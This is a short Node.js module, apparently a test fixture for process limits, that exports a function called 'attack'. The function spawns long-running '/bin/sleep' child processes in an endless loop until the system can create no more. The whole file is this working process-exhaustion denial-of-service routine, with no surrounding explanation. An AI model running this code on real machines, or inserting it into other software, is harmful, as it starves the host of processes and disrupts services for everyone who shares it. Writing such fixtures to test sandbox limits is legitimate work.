const { spawn } = require('node:child_process')

exports.attack = () => {
  for (;;) if (spawn('/bin/sleep', ['1000']).pid === undefined) throw new Error('no more processes')
}
